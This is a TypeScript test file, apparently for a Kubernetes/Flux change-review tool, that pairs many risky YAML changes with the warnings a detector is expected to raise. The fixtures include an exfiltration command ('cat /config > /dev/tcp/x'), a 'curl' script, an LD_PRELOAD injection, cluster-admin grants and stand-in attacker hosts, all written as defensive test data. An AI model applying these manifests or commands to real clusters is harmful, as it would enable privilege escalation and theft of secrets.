import type { Check } from "../../../../../infrastructure/cli/review/dangers/danger";
import { changedTree } from "./changed-tree";

const object = (apiVersion: string, kind: string, name: string, rest = "") =>
  `apiVersion: ${apiVersion}\nkind: ${kind}\nmetadata: { name: ${name}, namespace: media }\n${rest}`;
const app = (spec: string) => object("apps/v1", "Deployment", "app", `spec: { template: { spec: ${spec} } }`);
const container = (more: string, image = "ghcr.io/example/app:1.2.3@sha256:aaaa") =>
  app(`{ containers: [{ name: app, image: "${image}", args: [serve], ${more} }] }`);
const secure = (more: string) => container(`securityContext: { ${more} }`);
const values = (yaml: string) =>
  object("v1", "ConfigMap", "release-values", `data:\n  values.yaml: |\n${yaml.replaceAll(/^/gm, "    ")}\n`);
const fluxed = (apiVersion: string, kind: string, name: string, spec: string) =>
  `apiVersion: ${apiVersion}\nkind: ${kind}\nmetadata: { name: ${name}, namespace: flux-system }\nspec: ${spec}\n`;
const kustomization = (spec: string, name = "app") =>
  fluxed("kustomize.toolkit.fluxcd.io/v1", "Kustomization", name, spec);
const release = (spec: string) => object("helm.toolkit.fluxcd.io/v2", "HelmRelease", "release", `spec: ${spec}`);
const service = (spec: string) => object("v1", "Service", "app", `spec: ${spec}`);
const ingress = (annotations: string, spec = "{}") =>
  `apiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata: { name: app, namespace: media, annotations: ${annotations} }\nspec: ${spec}`;
const policy = (spec: string, name = "opened") =>
  object("networking.k8s.io/v1", "NetworkPolicy", name, `spec: ${spec}`);
const role = (rule: string) =>
  `apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata: { name: reader }\nrules: [${rule}]`;
const gone = (text: string) => `${text}\n$gone: true`;

/** A change, and what must be said of it: the check that finds it, which is its rank, and a phrase. */
const ROWS: readonly (readonly [title: string, yaml: string, check: Check, phrase: string, secrets?: string[]])[] = [
  // what a pod may take of its node
  ["hostNetwork", app("{ hostNetwork: true }"), "host", "is in the node's network"],
  ["hostPID", app("{ hostPID: true }"), "host", "sees the node's processes"],
  ["hostIPC", app("{ hostIPC: true }"), "host", "shares the node's memory"],
  ["the node's users", app("{ hostUsers: true }"), "host", "has the node's users"],
  ["a hostPath", app("{ volumes: [{ name: root, hostPath: { path: / } }] }"), "host", "mounts a path of the node"],
  [
    "an NFS volume",
    app("{ volumes: [{ name: n, nfs: { server: 203.0.113.1, path: / } }] }"),
    "host",
    "mounts what is outside",
  ],
  [
    "a CSI volume",
    app("{ volumes: [{ name: n, csi: { driver: evil.example.net } }] }"),
    "host",
    "mounts what is outside",
  ],
  ["privileged", secure("privileged: true"), "host", "is privileged"],
  [
    "privileged, in an init container",
    app(
      '{ initContainers: [{ name: i, image: "ghcr.io/example/app:1.2.3@sha256:aaaa", securityContext: { privileged: true } }] }',
    ),
    "host",
    "is privileged",
  ],
  ["privilege escalation", secure("allowPrivilegeEscalation: true"), "host", "may raise its privileges"],
  ["no word on privilege escalation", secure("readOnlyRootFilesystem: true"), "host", "may raise its privileges"],
  ["a capability", secure("capabilities: { add: [SYS_ADMIN] }"), "host", "adds a capability"],
  ["capabilities kept", secure("allowPrivilegeEscalation: false"), "host", "keeps a capability"],
  [
    "no seccomp profile",
    app("{ securityContext: { seccompProfile: { type: Unconfined } } }"),
    "host",
    "another profile of system calls",
  ],
  ["no AppArmor profile", secure("appArmorProfile: { type: Unconfined }"), "host", "another profile of system calls"],
  ["an unmasked /proc", secure("procMount: Unmasked"), "host", "sees more of /proc"],
  [
    "a kernel parameter",
    app("{ securityContext: { sysctls: [{ name: kernel.core_pattern, value: x }] } }"),
    "host",
    "sets a kernel parameter",
  ],
  ["root", app("{ securityContext: { runAsUser: 0 } }"), "host", "runs as root"],
  ["root is no longer forbidden", app("{ securityContext: { runAsNonRoot: null } }"), "host", "may run as root"],
  ["a writable image", secure("readOnlyRootFilesystem: false"), "host", "may write over its programs"],
  ["a device", container("resources: { limits: { gpu.intel.com/i915: 1 } }"), "host", "is given a device of the node"],
  ["a raw disk", container("volumeDevices: [{ name: d, devicePath: /dev/sda }]"), "host", "is given a disk"],
  [
    "a toleration for control planes",
    app("{ tolerations: [{ operator: Exists }] }"),
    "host",
    "may run where others may not",
  ],
  ["a system priority", app("{ priorityClassName: system-node-critical }"), "host", "drives other pods off"],
  [
    "a pod spec in a kind that nobody knows",
    object("evil.io/v1", "Thing", "t", "spec: { deep: [{ pod: { hostNetwork: true } }] }"),
    "host",
    "is in the node's network",
  ],
  [
    "a CronJob",
    object("batch/v1", "CronJob", "c", "spec: { jobTemplate: { spec: { template: { spec: { hostPID: true } } } } }"),
    "host",
    "sees the node's processes",
  ],
  [
    "a pod spec in values",
    values("controllers: { main: { pod: { hostNetwork: true } } }"),
    "host",
    "is in the node's network",
  ],
  [
    "a hostPath in values of app-template",
    values("persistence: { root: { type: hostPath, hostPath: / } }"),
    "host",
    "mounts a path of the node",
  ],
  [
    "a template where a yes or no was",
    values("pod: { hostNetwork: '{{ true }}' }"),
    "host",
    "is in the node's network",
  ],
  [
    "a patch after the chart is rendered",
    release(
      '{ postRenderers: [{ kustomize: { patches: [{ patch: "- { op: add, path: /spec/template/spec/hostPID, value: true }" }] } }] }',
    ),
    "host",
    "sees the node's processes",
  ],
  [
    "a less strict namespace",
    "apiVersion: v1\nkind: Namespace\nmetadata: { name: media, labels: { pod-security.kubernetes.io/enforce: privileged } }",
    "admission",
    "changes the Pod Security level",
  ],
  [
    "a volume of the node",
    object("v1", "PersistentVolume", "v", "spec: { hostPath: { path: / } }"),
    "host",
    "mounts a path of the node",
  ],
  [
    "a class of volumes",
    object("storage.k8s.io/v1", "StorageClass", "s", "provisioner: evil"),
    "host",
    "where volumes are",
  ],
  [
    "a pod where admission looks away",
    object("v1", "Pod", "p", "spec: { containers: [] }").replace("namespace: media", "namespace: kube-system"),
    "host",
    "a policy of admission lets be: `kube-system`",
  ],
  // images and commands
  [
    "an image of another registry",
    container("", "evil.example.net/example/app:1.2.3@sha256:aaaa"),
    "image",
    "takes its image from another registry",
  ],
  ["another image", container("", "ghcr.io/evil/app:1.2.3@sha256:aaaa"), "image", "runs another image"],
  [
    "another image under the same tag",
    container("", "ghcr.io/example/app:1.2.3@sha256:bbbb"),
    "image",
    "under the same tag",
  ],
  ["no digest any more", container("", "ghcr.io/example/app:1.2.4"), "image", "no longer pinned to a digest"],
  ["a tag that moves", container("", "ghcr.io/example/app:latest"), "image", "whose tag moves"],
  [
    "an older version",
    container("", "ghcr.io/example/app:1.0.0@sha256:cccc"),
    "image",
    "goes back to an older version",
  ],
  [
    "a new app",
    object("v1", "Pod", "p", 'spec: { containers: [{ name: a, image: "evil.example.net/a:1" }] }'),
    "image",
    "from a registry that nothing else is from",
  ],
  [
    "another repository in values",
    values("image: { repository: ghcr.io/evil/app, tag: 1.2.3 }"),
    "image",
    "runs another image",
  ],
  [
    "another registry for all images of a chart",
    values("global: { imageRegistry: evil.example.net }"),
    "image",
    "from another registry",
  ],
  ["another command", container("command: [sh, -c, 'cat /config > /dev/tcp/x']"), "command", "runs another command"],
  [
    "other arguments",
    app('{ containers: [{ name: app, image: "ghcr.io/example/app:1.2.3@sha256:aaaa", args: [serve, --no-auth] }] }'),
    "command",
    "runs with other arguments",
  ],
  [
    "a hook of its life",
    container("lifecycle: { postStart: { exec: { command: [x] } } }"),
    "command",
    "runs a command at its start",
  ],
  [
    "a library that is loaded first",
    container("env: [{ name: LD_PRELOAD, value: /config/x.so }]"),
    "command",
    "loads code by its environment",
  ],
  // rights
  ["a token", app("{ automountServiceAccountToken: true }"), "rights", "holds a token for the API server"],
  ["another service account", app("{ serviceAccountName: flux }"), "rights", "acts as another service account"],
  [
    "cluster-admin",
    "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: { name: x }\nroleRef: { kind: ClusterRole, name: cluster-admin }\nsubjects: [{ kind: ServiceAccount, name: default, namespace: media }]",
    "rights",
    "gives the role `cluster-admin` to `ServiceAccount media/default`",
  ],
  ["everything", role('{ apiGroups: ["*"], resources: ["*"], verbs: ["*"] }'), "rights", "strong rights: everything"],
  ["Secrets", role("{ apiGroups: [''], resources: [secrets], verbs: [get] }"), "rights", "strong rights: Secrets"],
  ["exec", role("{ apiGroups: [''], resources: [pods/exec], verbs: [create] }"), "rights", "to run commands in pods"],
  [
    "nodes/proxy",
    role("{ apiGroups: [''], resources: [nodes/proxy], verbs: [get] }"),
    "rights",
    "to run commands in pods",
  ],
  [
    "tokens of others",
    role("{ apiGroups: [''], resources: [serviceaccounts/token], verbs: [create] }"),
    "rights",
    "tokens of service accounts",
  ],
  [
    "impersonation",
    role("{ apiGroups: [''], resources: [users], verbs: [impersonate] }"),
    "rights",
    "to act as somebody else",
  ],
  [
    "escalation",
    role("{ apiGroups: [x], resources: [clusterroles], verbs: [escalate] }"),
    "rights",
    "to give itself rights",
  ],
  [
    "rights added to another role",
    "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata: { name: reader, labels: { rbac.authorization.k8s.io/aggregate-to-view: 'true' } }",
    "rights",
    "adds its rights to another role",
  ],
  [
    "Talos' API",
    object("talos.dev/v1alpha1", "ServiceAccount", "t", "spec: { roles: [os:admin] }"),
    "rights",
    "rights to the Talos API",
  ],
  [
    "a token as a Secret",
    object("v1", "Secret", "t", "type: kubernetes.io/service-account-token"),
    "rights",
    "is a token for the API server",
  ],
  [
    "rights in values",
    values("rbac: { clusterRole: { rules: [{ resources: [secrets], verbs: [get] }] } }"),
    "rights",
    "changes rights",
  ],
  // admission
  [
    "an exempt namespace",
    "apiVersion: admissionregistration.k8s.io/v1\nkind: ValidatingAdmissionPolicy\nmetadata: { name: privileged-pods }\nspec: { matchConditions: [{ name: not-of-the-node, expression: \"!(request.namespace in ['kube-system', 'media'])\" }] }",
    "admission",
    "changes what the API server lets in",
  ],
  [
    "a policy goes",
    gone(
      "apiVersion: admissionregistration.k8s.io/v1\nkind: ValidatingAdmissionPolicy\nmetadata: { name: privileged-pods }",
    ),
    "admission",
    "what it refused is let in",
  ],
  [
    "a webhook",
    object("admissionregistration.k8s.io/v1", "MutatingWebhookConfiguration", "m", "webhooks: []"),
    "admission",
    "what the API server lets in",
  ],
  [
    "a part of the API",
    object("apiregistration.k8s.io/v1", "APIService", "v1.evil.io", "spec: { group: evil.io }"),
    "admission",
    "another program answers",
  ],
  [
    "objects rewritten",
    object("apiextensions.k8s.io/v1", "CustomResourceDefinition", "c", "spec: { conversion: { strategy: Webhook } }"),
    "admission",
    "has its objects rewritten",
  ],
  // sources
  [
    "another repository",
    fluxed("source.toolkit.fluxcd.io/v1", "GitRepository", "flux-system", "{ url: https://github.com/evil/homelab }"),
    "source",
    "where Flux takes things from",
  ],
  [
    "another branch",
    fluxed("source.toolkit.fluxcd.io/v1", "GitRepository", "flux-system", "{ ref: { branch: evil } }"),
    "source",
    "where Flux takes things from",
  ],
  [
    "signatures are no longer checked",
    fluxed("source.toolkit.fluxcd.io/v1", "GitRepository", "flux-system", "{ verify: null }"),
    "source",
    "where Flux takes things from",
  ],
  [
    "a chart from elsewhere",
    fluxed("source.toolkit.fluxcd.io/v1", "OCIRepository", "chart", "{ url: oci://evil.example.net/app }"),
    "source",
    "where Flux takes things from",
  ],
  [
    "an older chart",
    fluxed("source.toolkit.fluxcd.io/v1", "OCIRepository", "chart", "{ ref: { tag: 3.0.0 } }"),
    "source",
    "older version",
  ],
  [
    "a chart whose version moves",
    fluxed("source.toolkit.fluxcd.io/v1", "OCIRepository", "chart", "{ ref: { tag: latest } }"),
    "source",
    "a version that moves",
  ],
  [
    "a bucket",
    fluxed("source.toolkit.fluxcd.io/v1", "Bucket", "b", "{ endpoint: x }"),
    "source",
    "where Flux takes things from",
  ],
  [
    "a part of another source",
    kustomization("{ sourceRef: { kind: GitRepository, name: evil } }"),
    "source",
    "is taken from another source",
  ],
  ["a part of another folder", kustomization("{ path: ./docs }"), "source", "applies another folder"],
  ["a patch of a part", kustomization("{ patches: [{ patch: 'a: 1' }] }"), "source", "patches what it applies"],
  [
    "another value that is filled in",
    kustomization("{ postBuild: { substitute: { HOST_A: x } } }"),
    "source",
    "fills in another value",
  ],
  ["another cluster", kustomization("{ kubeConfig: { secretRef: { name: x } } }"), "rights", "to another cluster"],
  ["another namespace", kustomization("{ targetNamespace: kube-system }"), "rights", "into another namespace"],
  [
    "what writes to the repository",
    fluxed("image.toolkit.fluxcd.io/v1", "ImageUpdateAutomation", "i", "{}"),
    "source",
    "writes to the repository",
  ],
  ["objects from values", values("extraObjects: [{ kind: ConfigMap }]"), "source", "applies objects from values"],
  // secrets
  [
    "another part's secrets",
    kustomization("{ postBuild: { substituteFrom: [{ kind: Secret, name: cluster-secrets-grafana }] } }"),
    "secrets",
    "is given the secrets of another part: `cluster-secrets-grafana`",
  ],
  [
    "a part's own secrets",
    kustomization("{ postBuild: { substituteFrom: [{ kind: Secret, name: cluster-secrets-app }] } }"),
    "secrets",
    "is given the secrets of `cluster-secrets-app`",
  ],
  [
    "a secret in a ConfigMap",
    object("v1", "ConfigMap", "c", "data: { a: tunnel-token }"),
    "secrets",
    "shows everybody the secret `TUNNEL_TOKEN`",
    ["TUNNEL_TOKEN"],
  ],
  [
    "a Secret as environment",
    container("env: [{ name: T, valueFrom: { secretKeyRef: { name: tunnel, key: t } } }]"),
    "secrets",
    "reads a Secret",
  ],
  [
    "a Secret as a volume",
    app("{ volumes: [{ name: s, secret: { secretName: tunnel } }] }"),
    "secrets",
    "reads a Secret",
  ],
  [
    "another app's volume",
    app("{ volumes: [{ name: s, persistentVolumeClaim: { claimName: vault-data } }] }"),
    "secrets",
    "mounts a volume that others have",
  ],
  [
    "a copy of a volume",
    object(
      "v1",
      "PersistentVolumeClaim",
      "c",
      "spec: { dataSource: { kind: PersistentVolumeClaim, name: vault-data } }",
    ),
    "secrets",
    "copy of another volume",
  ],
  [
    "another key for decryption",
    kustomization("{ decryption: { provider: sops } }"),
    "secrets",
    "decrypts with another key",
  ],
  // ways in
  ["a load balancer", service("{ type: LoadBalancer }"), "exposure", "opens the Service to the outside"],
  ["a port of every node", service("{ type: NodePort }"), "exposure", "opens the Service to the outside"],
  ["an external address", service("{ externalIPs: [192.168.50.9] }"), "exposure", "takes an address of the LAN"],
  [
    "an external name",
    service("{ type: ExternalName, externalName: evil.example.net }"),
    "exposure",
    "leads out of the cluster",
  ],
  [
    "a Service that leads elsewhere",
    service("{ selector: { app.kubernetes.io/name: other } }"),
    "exposure",
    "leads to other pods",
  ],
  [
    "addresses by hand",
    object("discovery.k8s.io/v1", "EndpointSlice", "app", "endpoints: [{ addresses: [10.0.0.1] }]"),
    "exposure",
    "addresses that a Service leads to",
  ],
  [
    "addresses by hand, the old way",
    object("v1", "Endpoints", "app", "subsets: []"),
    "exposure",
    "addresses that a Service leads to",
  ],
  [
    "a port of the node",
    container("ports: [{ containerPort: 80, hostPort: 80 }]"),
    "exposure",
    "opens a port of its nodes",
  ],
  ["Tailscale's funnel", ingress("{ tailscale.com/funnel: 'true' }"), "exposure", "a way in from the tailnet"],
  [
    "a Service on the tailnet",
    "apiVersion: v1\nkind: Service\nmetadata: { name: app, namespace: media, annotations: { tailscale.com/expose: 'true' } }",
    "exposure",
    "a way in from the tailnet",
  ],
  [
    "another name for a host",
    ingress("{ nginx.ingress.kubernetes.io/server-alias: x.example.com }"),
    "exposure",
    "whom the ingress controller lets in",
  ],
  [
    "a snippet",
    ingress("{ nginx.ingress.kubernetes.io/configuration-snippet: 'return 200;' }"),
    "exposure",
    "whom the ingress controller lets in",
  ],
  [
    "nobody is asked any more",
    ingress("{ nginx.ingress.kubernetes.io/auth-url: null }"),
    "exposure",
    "whom the ingress controller lets in",
  ],
  [
    "a name that leads elsewhere",
    ingress("{ external-dns.kubernetes.io/target: 203.0.113.9 }"),
    "exposure",
    "its name leads elsewhere",
  ],
  [
    "another name in the zone",
    ingress("{ external-dns.kubernetes.io/hostname: evil.example.com }"),
    "exposure",
    "changes a name in the zone",
  ],
  ["another class", ingress("{}", "{ ingressClassName: nginx }"), "exposure", "changes a way in"],
  [
    "a default backend",
    ingress("{}", "{ defaultBackend: { service: { name: app } } }"),
    "exposure",
    "changes a way in",
  ],
  ["a gateway", object("gateway.networking.k8s.io/v1", "HTTPRoute", "r", "spec: {}"), "exposure", "is new: a way in"],
  [
    "a subnet router",
    object("tailscale.com/v1alpha1", "Connector", "c", "spec: { exitNode: true }"),
    "exposure",
    "is new: a way in",
  ],
  [
    "a record by hand",
    object("externaldns.k8s.io/v1alpha1", "DNSEndpoint", "d", "spec: {}"),
    "exposure",
    "is new: a way in",
  ],
  [
    "a port of the ingress controller",
    object("v1", "ConfigMap", "tcp-services", "data: { '5432': media/vault:5432 }"),
    "exposure",
    "opens a port of the ingress controller",
  ],
  [
    "the same in values",
    values("tcp: { 5432: media/vault:5432 }"),
    "exposure",
    "opens a port of the ingress controller",
  ],
  [
    "snippets in values",
    values("controller: { allowSnippetAnnotations: true }"),
    "exposure",
    "writes into the ingress controller's config",
  ],
  ["an ingress in values", values("ingress: { main: { enabled: true } }"), "exposure", "changes a way in"],
  ["a type in values", values("service: { type: LoadBalancer }"), "exposure", "opens the Service to the outside"],
  [
    "an issuer",
    object("cert-manager.io/v1", "ClusterIssuer", "c", "spec: {}"),
    "exposure",
    "certificates are made for",
  ],
  [
    "a webhook into Flux",
    fluxed("notification.toolkit.fluxcd.io/v1", "Receiver", "r", "{}"),
    "exposure",
    "who tells Flux something",
  ],
  // who may reach whom
  [
    "a network label",
    "apiVersion: apps/v1\nkind: Deployment\nmetadata: { name: app, namespace: media }\nspec: { template: { metadata: { labels: { network/internet: 'true' } } } }",
    "network",
    "its network label opens",
  ],
  [
    "a network label in values",
    values("pod: { labels: { network/api: 'true' } }"),
    "network",
    "its network label opens",
  ],
  ["the policy that closes goes", gone(policy("{}", "default-deny")), "network", "what it forbade is allowed"],
  [
    "the policy that closes, no more",
    policy("{ policyTypes: [Ingress] }", "default-deny"),
    "network",
    "no longer closes the way out",
  ],
  ["whoever", policy("{ podSelector: {}, ingress: [{}] }"), "network", "lets in whoever reaches the pod"],
  [
    "every namespace",
    policy("{ podSelector: {}, ingress: [{ from: [{ namespaceSelector: {} }] }] }"),
    "network",
    "lets in pods of every namespace",
  ],
  [
    "every address",
    policy("{ podSelector: {}, egress: [{ to: [{ ipBlock: { cidr: 0.0.0.0/0 } }] }] }"),
    "network",
    "lets out to `0.0.0.0/0`",
  ],
  [
    "one more pod",
    policy("{ podSelector: {}, ingress: [{ from: [{ podSelector: { matchLabels: { a: b } } }] }] }"),
    "network",
    "opens a way in from",
  ],
  [
    "labels that a policy trusts",
    "apiVersion: apps/v1\nkind: Deployment\nmetadata: { name: app, namespace: media }\nspec: { template: { metadata: { labels: { app: backup } } } }",
    "network",
    "may do what `NetworkPolicy media/vault-to-backup` lets others do",
  ],
  [
    "labels that a Service leads to",
    object("v1", "Pod", "p", "spec: {}").replace(
      "namespace: media",
      "namespace: media, labels: { app.kubernetes.io/name: app }",
    ),
    "exposure",
    "gets what is sent to `Service media/app`",
  ],
  [
    "names of its own",
    app("{ hostAliases: [{ ip: 203.0.113.1, hostnames: [auth.example.com] }] }"),
    "network",
    "takes names to addresses of its own",
  ],
  // the rest
  [
    "an address that nothing named",
    container("env: [{ name: HOOK, value: 'https://evil.example.net/x' }]"),
    "address",
    "`evil.example.net`",
  ],
  [
    "an alert goes",
    object("monitoring.coreos.com/v1", "PrometheusRule", "alerts", "spec: { groups: [{ name: nodes, rules: [] }] }"),
    "watched",
    "no longer alerts",
  ],
  [
    "receivers of alerts",
    object("monitoring.coreos.com/v1", "AlertmanagerConfig", "a", "spec: {}"),
    "watched",
    "who is told",
  ],
  ["Flux stops looking", release("{ suspend: true }"), "watched", "is suspended"],
  [
    "Flux leaves an object alone",
    object("v1", "Service", "app").replace(
      "namespace: media",
      "namespace: media, annotations: { kustomize.toolkit.fluxcd.io/reconcile: disabled }",
    ),
    "watched",
    "what Flux does with it",
  ],
  // what was thought of afterwards, as somebody who wants it to go unnoticed
  [
    "no password",
    container("env: [{ name: APP__AUTH__METHOD, value: None }]"),
    "exposure",
    "who has to say who they are",
  ],
  [
    "anonymous, in values",
    values("grafana.ini: { auth.anonymous: { enabled: true } }"),
    "exposure",
    "who has to say who they are",
  ],
  ["a script in values", values("configMaps: { run: { data: { run.sh: 'curl x' } } }"), "command", "changes a script"],
  [
    "AppArmor by annotation",
    values(
      "podAnnotations: { x: y }\npod: { annotations: { container.apparmor.security.beta.kubernetes.io/app: unconfined } }",
    ),
    "host",
    "another profile of system calls",
  ],
  [
    "the API server's authorities",
    object("v1", "ConfigMap", "extension-apiserver-authentication", "data: { client-ca-file: x }").replace(
      "media",
      "kube-system",
    ),
    "admission",
    "what Kubernetes itself goes by",
  ],
  [
    "the cluster's names",
    object("v1", "ConfigMap", "coredns", "data: { Corefile: x }").replace("media", "kube-system"),
    "admission",
    "what Kubernetes itself goes by",
  ],
  [
    "the facts that Flux fills in",
    object("v1", "ConfigMap", "cluster-settings", "data: { TUNNEL_HOST: x }").replace("media", "flux-system"),
    "source",
    "what Flux goes by",
  ],
  [
    "a volume of another namespace",
    object("v1", "PersistentVolumeClaim", "c", "spec: { volumeName: library }"),
    "host",
    "takes a volume by its name",
  ],
  [
    "a token for whoever is scraped",
    object(
      "monitoring.coreos.com/v1",
      "ServiceMonitor",
      "s",
      "spec: { endpoints: [{ port: a, bearerTokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token }] }",
    ),
    "secrets",
    "sends a credential",
  ],
  [
    "a monitor of every namespace",
    object("monitoring.coreos.com/v1", "PodMonitor", "s", "spec: { namespaceSelector: { any: true } }"),
    "network",
    "means every namespace",
  ],
  ["a certificate that nobody checks", values("origin: { noTLSVerify: true }"), "network", "checks no certificate"],
  [
    "an alert that never fires",
    object(
      "monitoring.coreos.com/v1",
      "PrometheusRule",
      "alerts",
      "spec: { groups: [{ name: nodes, rules: [{ alert: NodeDown, expr: up == 2 }] }] }",
    ),
    "watched",
    "changes when it alerts",
  ],
  [
    "alerts that go nowhere",
    values("alertmanager: { config: { route: { receiver: nobody } } }"),
    "watched",
    "who is told",
  ],
  ["another owner of the zone's names", values("txtOwnerId: other"), "exposure", "which names in the zone are written"],
  ["root, in another way to write it", app("{ securityContext: { runAsUser: 0x0 } }"), "host", "runs as root"],
  ["yes for true", app("{ hostNetwork: yes }"), "host", "is in the node's network"],
  [
    "containers of the same name",
    app(
      '{ containers: [{ name: app, image: "ghcr.io/example/app:1.2.3@sha256:aaaa" }, { name: app, image: "ghcr.io/example/app:1.2.3@sha256:aaaa", securityContext: { privileged: true } }] }',
    ),
    "host",
    "is privileged",
  ],
  [
    "values as JSON in another key",
    object("v1", "ConfigMap", "release-values", 'data: { more.json: \'{"pod":{"hostNetwork":true}}\' }'),
    "host",
    "is in the node's network",
  ],
  [
    "YAML in YAML in YAML",
    values("manifest: |\n  inner: |\n    spec:\n      hostPID: true"),
    "host",
    "sees the node's processes",
  ],
  [
    "a template that is no YAML",
    values("raw: |\n  {{ if true }}\n  hostNetwork: true\n  {{ end }}"),
    "host",
    "a text that cannot be read here says `hostNetwork`",
  ],
  ["an anchor", values("x: &a { hostNetwork: true }\npod: { <<: *a }"), "host", "data.values.yaml.pod.hostNetwork"],
  ["no release has its defaults any more", release("{ valuesFrom: [] }"), "source", "takes values from elsewhere"],
  [
    "a Secret in a folder that is mounted",
    app("{ volumes: [{ name: s, projected: { sources: [{ secret: { name: tunnel } }] } }] }"),
    "secrets",
    "reads a Secret",
  ],
  [
    "a token in a folder that is mounted",
    app("{ volumes: [{ name: s, projected: { sources: [{ serviceAccountToken: { path: t } }] } }] }"),
    "rights",
    "holds a token",
  ],
  [
    "a role for everybody",
    "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: { name: x }\nroleRef: { kind: ClusterRole, name: view }\nsubjects: [{ kind: Group, name: 'system:unauthenticated' }]",
    "rights",
    "`Group system:unauthenticated`",
  ],
  [
    "it no longer runs",
    "apiVersion: apps/v1\nkind: Deployment\nmetadata: { name: app, namespace: media }\nspec: { replicas: 0 }",
    "watched",
    "no longer runs",
  ],
  [
    "a policy for the objects of one app",
    "apiVersion: admissionregistration.k8s.io/v1\nkind: ValidatingAdmissionPolicy\nmetadata: { name: privileged-pods }\nspec: { matchConstraints: { objectSelector: { matchLabels: { app: x } } } }",
    "admission",
    "changes what the API server lets in",
  ],
];

test.each(ROWS.map((row) => ({ title: row[0], row })))("$title", ({ row: [, yaml, check, phrase, secrets] }) => {
  const dangers = changedTree(yaml, secrets).flatMap((change) => change.dangers);
  const said = dangers.filter((each) => each.check === check).map(({ message }) => message);
  expect(said.join("\n")).toContain(phrase);
});

test("there are enough of them, and none twice", () => {
  expect(ROWS.length).toBeGreaterThan(60);
  expect(new Set(ROWS.map(([, yaml]) => yaml)).size).toBe(ROWS.length);
});
